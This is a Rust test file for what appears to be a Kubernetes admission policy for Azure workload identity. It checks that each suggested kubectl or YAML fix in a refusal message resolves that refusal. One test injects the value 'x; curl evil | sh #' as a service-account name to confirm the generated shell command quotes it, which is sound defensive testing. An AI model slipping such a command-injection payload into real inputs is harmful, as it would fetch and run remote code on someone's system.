//! Fixes that work when they are pasted: each is parsed, applied to the object that it is for, and tried again.

use std::process::Command;

use crate::common::*;
use serde_json::{Value, json};

/// What a fix can change.
struct Cluster {
    settings: Value,
    account: Option<Value>,
    request: Value,
}

impl Cluster {
    fn refusal(&self) -> Option<String> {
        let answers = self.account.as_ref().map_or_else(not_found, holding);
        let response = evaluate(&self.settings, &self.request, answers).response;
        (!response.allowed).then(|| response.message().to_owned())
    }

    /// Applies the fix of a refusal: the lines that follow its sentence.
    fn apply(&mut self, refusal: &str) {
        for line in refusal.lines().skip(1).take_while(|line| !line.starts_with("Pod default/")) {
            let marked = line.replace("CLIENT_ID", "\u{1}").replace("AZURE_\u{1}", "AZURE_CLIENT_ID");
            let filled = marked
                .replace('\u{1}', CLIENT_ID)
                .replace("=TENANT_ID", &format!("={TENANT_ID}"))
                .replace("\"TENANT_ID\"", &format!("\"{TENANT_ID}\""));
            self.apply_line(&filled);
        }
    }

    fn apply_line(&mut self, line: &str) {
        if line.starts_with("kubectl ") {
            return self.run(&words(line));
        }
        let yaml: Value = yaml_serde::from_str(line).unwrap_or_else(|error| panic!("{line}: {error}"));
        if let Some(entries) = yaml.as_array() {
            let allowed = self.settings["allowedIdentities"].as_array_mut().unwrap();
            return allowed.extend(entries.clone());
        }
        let object = &mut self.request["object"];
        if let Some(env) = yaml.get("env") {
            let name = &env[0]["name"];
            let own = object["spec"]["containers"][0]["env"].as_array_mut().unwrap();
            own.retain(|entry| entry["name"] != *name);
            return own.push(env[0].clone());
        }
        let template = object["spec"].get("template").is_some();
        let place = if template { &mut object["spec"]["template"] } else { object };
        merge(place, &yaml);
    }

    fn run(&mut self, words: &[String]) {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        match words[..] {
            [
                "kubectl",
                "annotate",
                "--overwrite",
                "serviceaccount",
                "-n",
                "default",
                "myserviceaccount",
                annotation,
            ] => {
                let (name, value) = annotation.split_once('=').unwrap();
                self.account.as_mut().unwrap()["metadata"]["annotations"][name] = json!(value);
            }
            ["kubectl", "create", "serviceaccount", "-n", "default", name] => {
                self.account = Some(
                    json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "namespace": "default"}}),
                );
            }
            _ => panic!("unknown command {words:?}"),
        }
    }
}

/// The words of a command, as `sh` has them.
fn words(line: &str) -> Vec<String> {
    let script = format!("kubectl() {{ printf '%s\\n' kubectl \"$@\"; }}\n{line}");
    let output = Command::new("sh").args(["-c", &script]).output().unwrap();
    assert!(output.status.success() && output.stderr.is_empty(), "{line}: {output:?}");
    String::from_utf8(output.stdout).unwrap().lines().map(str::to_owned).collect()
}

fn merge(into: &mut Value, from: &Value) {
    match (into, from) {
        (Value::Object(into), Value::Object(from)) => {
            for (name, value) in from {
                merge(into.entry(name).or_insert(json!({})), value);
            }
        }
        (into, from) => *into = from.clone(),
    }
}

fn account_with(annotation: &str, value: &str) -> Value {
    let mut account = yada_account();
    account["metadata"]["annotations"][format!("azure.workload.identity/{annotation}")] = json!(value);
    account
}

fn labelled(change: impl FnOnce(&mut Value)) -> Value {
    yada(|pod| {
        label(pod, "true");
        change(pod);
    })
}

fn created(account: &Value) -> Value {
    requests::create(requests::SERVICE_ACCOUNT, "default", account)
}

fn cases() -> Vec<(Value, Option<Value>, Value)> {
    let own = || Some(yada_account());
    let allowing = |entry: Value| with(&json!({"allowedIdentities": [entry]}));
    let unlabelled = |change: fn(&mut Value)| {
        let mut account = yada_account();
        change(&mut account);
        account
    };
    vec![
        (settings(), Some(account_with("client-id", "${CLIENT_ID}")), labelled(|_| ())),
        (settings(), Some(account_with("client-id", &format!("{{{CLIENT_ID}}}\n"))), labelled(|_| ())),
        (settings(), Some(account_with("tenant-id", "contoso")), labelled(|_| ())),
        (settings(), Some(account_with("service-account-token-expiration", "1h")), labelled(|_| ())),
        (json!({}), own(), labelled(|_| ())),
        (with(&json!({"requireClientId": true})), Some(account_with("client-id", "")), labelled(|_| ())),
        (settings(), None, labelled(|_| ())),
        (settings(), own(), labelled(|pod| annotate(pod, "service-account-token-expiration", "60"))),
        (
            settings(),
            own(),
            labelled(|pod| {
                annotate(pod, "inject-proxy-sidecar", "true");
                annotate(pod, "proxy-sidecar-port", "0");
            }),
        ),
        (
            settings(),
            own(),
            labelled(|pod| {
                annotate(pod, "inject-proxy-sidecar", "true");
                pod["spec"]["hostNetwork"] = json!(true);
            }),
        ),
        (
            settings(),
            own(),
            labelled(|pod| {
                annotate(pod, "skip-containers", "keep");
                let mount = |path: &str| json!([{"name": "v", "mountPath": path}]);
                pod["spec"]["containers"] = json!([{"name": "keep"}, {"name": "a", "volumeMounts": mount(MOUNT)},
                    {"name": "b", "volumeMounts": mount(&format!("{MOUNT}/token"))}]);
            }),
        ),
        (allowing(json!({"namespaces": ["other"]})), own(), labelled(|_| ())),
        (allowing(json!({"clientIds": ["11111111-2222-4333-8444-555555555555"]})), own(), labelled(|_| ())),
        (allowing(json!({"tenantIds": ["contoso.com"]})), own(), labelled(|_| ())),
        (allowing(json!({"clientIds": [CLIENT_ID]})), Some(account_with("client-id", "")), labelled(|_| ())),
        (
            allowing(json!({"clientIds": [CLIENT_ID]})),
            own(),
            labelled(|pod| {
                let other =
                    json!({"name": "AZURE_CLIENT_ID", "value": "11111111-2222-4333-8444-555555555555"});
                pod["spec"]["containers"][0]["env"].as_array_mut().unwrap().push(other);
            }),
        ),
        (
            settings(),
            own(),
            yada(|pod| pod["metadata"]["labels"]["azure.workload.identity/use"] = json!(true)),
        ),
        (settings(), None, created(&account_with("client-id", &format!("\"{CLIENT_ID}\"")))),
        (settings(), None, created(&account_with("tenant-id", "contoso"))),
        (
            settings(),
            None,
            created(&unlabelled(|account| {
                account["metadata"]["labels"]["azure.workload.identity/use"] = json!(true);
            })),
        ),
        (
            with(&json!({"preflight": "Enforce"})),
            own(),
            deployment(|template| annotate(template, "service-account-token-expiration", "60")),
        ),
    ]
}

#[test]
fn each_fix_repairs_its_mistake() {
    for (settings, account, request) in cases() {
        let mut cluster = Cluster { settings, account, request };
        let first = cluster.refusal().unwrap_or_else(|| panic!("nothing is wrong with {}", cluster.request));
        cluster.apply(&first);
        assert_eq!(cluster.refusal(), None, "after the fix of: {first}");
    }
}

#[test]
fn a_fix_for_two_containers_keeps_the_skipped_ones() {
    let (settings, account, request) = cases().remove(10);
    let mut cluster = Cluster { settings, account, request };
    let refusal = cluster.refusal().unwrap();
    assert_eq!(refusal.matches("skip-containers: \"keep;a;b\"").count(), 2, "{refusal}");
    cluster.apply(&refusal);
    assert_eq!(
        cluster.request["object"]["metadata"]["annotations"]["azure.workload.identity/skip-containers"],
        "keep;a;b"
    );
}

/// The account that the host names is the one that is granted, also beside `deploy/base`, whose names are others.
#[test]
fn grants_the_account_that_the_host_names() {
    let text = "Callback evaluation failure: ApiError: serviceaccounts \"a\" is forbidden: User \"system:serviceaccount:security:own-server\" cannot get resource \"serviceaccounts\"";
    let (message, _) = refused(&settings(), &labelled(|_| ()), failing(text));
    let commands: Vec<Vec<String>> = message.lines().skip(1).map(words).collect();
    assert_eq!(commands.len(), 2);
    assert!(commands[1].contains(&"--serviceaccount=security:own-server".to_owned()), "{commands:?}");
    let rbac = file("deploy/base/rbac.yaml");
    assert!(commands.iter().all(|words| !rbac.contains(&format!("name: {}\n", words[3]))), "{commands:?}");
}

/// A name is one word to the shell, whatever it holds.
#[test]
fn quotes_a_name_for_the_shell() {
    let mut account = account_with("client-id", "x");
    let name = "x; curl evil | sh #";
    account["metadata"]["name"] = json!(name);
    let mut request = created(&account);
    request["operation"] = json!("UPDATE");
    request["oldObject"] = yada_account();
    let (message, _) = refused(&settings(), &request, no_look_up());
    let command = words(message.lines().nth(1).unwrap());
    assert_eq!(command[..7], ["kubectl", "annotate", "--overwrite", "serviceaccount", "-n", "default", name]);
}
